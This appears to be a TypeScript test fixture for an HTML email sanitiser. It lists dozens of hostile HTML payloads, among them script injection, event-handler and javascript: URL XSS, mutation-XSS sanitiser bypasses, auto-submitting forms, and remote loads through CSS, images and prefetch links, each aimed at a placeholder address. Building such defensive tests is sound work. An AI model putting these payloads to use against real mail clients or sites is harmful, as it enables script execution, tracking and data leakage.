/** What senders put into HTML to make a mail client ask, run or go somewhere. `at` is the address that must never be asked. */
export const HOSTILE_MAILS: Record<string, (at: string) => string> = {
  script: (at) => `<script>fetch("${at}"); alert(document.title=1)</script>`,
  "script from elsewhere": (at) => `<script src="${at}/a.js"></script>`,
  "script in capitals and halves": (at) =>
    `<ScRiPt/x src=${at}/b.js></sCrIpT\n><scr<script>ipt>alert(document.title=1)</script>`,
  "handler on an image": (at) => `<img src=x onerror="fetch('${at}');alert(document.title=1)">`,
  "handler on the body": (at) => `<body onload="fetch('${at}')" onpageshow=alert(document.title=1)>Hello</body>`,
  "handlers that need no hand": (at) =>
    `<details open ontoggle="fetch('${at}')"><summary>x</summary></details><input autofocus onfocus="alert(document.title=1)"><marquee onstart=alert(document.title=1)>x</marquee>`,
  "handler of an animation": () =>
    `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="alert(document.title=1)">x</p>`,
  "svg that runs": (at) => `<svg onload="fetch('${at}')"><script>alert(document.title=1)</script></svg>`,
  "svg that animates an address": () =>
    `<svg><a><animate attributeName=href values=javascript:alert(document.title=1) /><text x=20 y=20>x</text></a></svg>`,
  "svg that asks": (at) =>
    `<svg><image href="${at}/i.svg"/><use href="${at}/u.svg#a"/><feImage href="${at}/f.png"/></svg>`,
  "meta refresh": (at) => `<meta http-equiv="refresh" content="0;url=${at}">`,
  "meta refresh to a script": () => `<meta http-equiv="refresh" content="0;url=javascript:alert(document.title=1)">`,
  "meta that loosens the policy": (at) =>
    `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline'"><img src="${at}/m.png">`,
  "form that sends itself": (at) =>
    `<form id=f action="${at}" method=post><input name=a></form><script>f.submit()</script>`,
  "form with buttons": (at) =>
    `<form action="${at}"><input type=image src="${at}/s.png"><button formaction="javascript:alert(document.title=1)">Pay</button></form>`,
  iframe: (at) => `<iframe src="${at}/frame"></iframe><iframe src="javascript:alert(document.title=1)"></iframe>`,
  srcdoc: (at) => `<iframe srcdoc="<script>parent.alert(document.title=1)</script><img src='${at}/d.png'>"></iframe>`,
  "object and embed": (at) => `<object data="${at}/o"></object><embed src="${at}/e"><applet code="${at}/x"></applet>`,
  "frames and portals": (at) => `<frameset><frame src="${at}/fs"></frameset><portal src="${at}/p"></portal>`,
  "style sheet from elsewhere": (at) =>
    `<link rel=stylesheet href="${at}/s.css"><style>@import url("${at}/i.css");</style>`,
  "style that asks": (at) =>
    `<div style="background:url(${at}/b.png);list-style:url('${at}/l.png');cursor:url(${at}/c.cur),auto;content:url(${at}/t)">x</div>`,
  "style behind escapes": (at) =>
    `<div style="background:\\75\\72\\6c(${at}/esc.png)">x</div><p style="b&#97;ckground:u/**/rl(${at})">x</p>`,
  "style in variables and sets": (at) =>
    `<div style="--a:url(${at}/v.png);background:var(--a)">x</div><div style="background:image-set('${at}/is.png' 1x)">x</div>`,
  "style with a font": (at) => `<style>@font-face{font-family:a;src:url(${at}/f.woff)}p{font-family:a}</style><p>x</p>`,
  "style with old expressions": () =>
    `<div style="width:expression(alert(document.title=1));behavior:url(#x);-moz-binding:url(#x)">x</div>`,
  "pictures from elsewhere": (at) =>
    `<img src="${at}/p.png"><img src="//${new URL(at).host}/pr.png"><img src=" ${at}/sp.png">`,
  "sets of pictures": (at) =>
    `<img srcset="${at}/1.png 1x, ${at}/2.png 2x"><picture><source srcset="${at}/3.png"><img src="${at}/4.png"></picture>`,
  "pictures in old places": (at) =>
    `<table background="${at}/t.png"><tr><td background="${at}/td.png">x</td></tr></table><img lowsrc="${at}/low.png" dynsrc="${at}/dyn">`,
  "sound and film": (at) =>
    `<video src="${at}/v" poster="${at}/poster.png" autoplay></video><audio src="${at}/a" autoplay></audio><track src="${at}/t">`,
  "claimed as blocked": (at) => `<img data-blocked-src="${at}/claimed.png" alt="x">`,
  "data that is a page": () =>
    `<iframe src="data:text/html,<script>alert(document.title=1)</script>"></iframe><a href="data:text/html,<script>alert(document.title=1)</script>">x</a>`,
  "data that is a drawing": (at) =>
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(document.title=1)'><image href='${at}/ds.png'/></svg>">`,
  "links that run": () =>
    `<a href="javascript:alert(document.title=1)">a</a><a href="JaVa&#09;ScRiPt:alert(document.title=1)">b</a><a href="&#1;javascript:alert(document.title=1)">c</a><a href="vbscript:x">d</a>`,
  "base of all addresses": (at) => `<base href="${at}/" target="_top"><img src="rel.png"><a href="rel">x</a>`,
  "links that are fetched ahead": (at) =>
    `<link rel=prefetch href="${at}/pf"><link rel=preload as=image href="${at}/pl"><link rel=dns-prefetch href="${at}"><link rel=preconnect href="${at}"><link rel=icon href="${at}/ico">`,
  "link that tells when it is followed": (at) => `<a href="https://example.com/" ping="${at}/ping">x</a>`,
  "mutation in noscript": (at) => `<noscript><p title="</noscript><img src=${at}/ns onerror=alert(document.title=1)>">`,
  "mutation in math": (at) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${at}/mx onerror=alert(document.title=1)&gt;">`,
  "mutation in a form in a form": () =>
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(document.title=1)>`,
  "mutation in svg style": (at) =>
    `<svg></p><style><a id="</style><img src=${at}/svgst onerror=alert(document.title=1)>">`,
  "mutation in a title": () =>
    `<title><a title="</title><img src=x onerror=alert(document.title=1)>"></title><textarea></textarea><script>alert(document.title=1)</script>`,
  "mutation in xmp": () =>
    `<xmp><p title="</xmp><svg/onload=alert(document.title=1)>"></xmp><noembed><img src=x onerror=alert(document.title=1)></noembed>`,
  "mutation in comments": () =>
    `<!--><img src=x onerror=alert(document.title=1)>--><![CDATA[<script>alert(document.title=1)</script>]]><!--[if IE]><script>alert(document.title=1)</script><![endif]-->`,
  "names that hide the document": () =>
    `<img name=getElementById><form id=body><input name=attributes></form><a id=location href="javascript:alert(document.title=1)">x</a>`,
  "deeply nested": (at) => `${"<div>".repeat(3000)}<img src="${at}/deep.png">${"</div>".repeat(3000)}`,
};
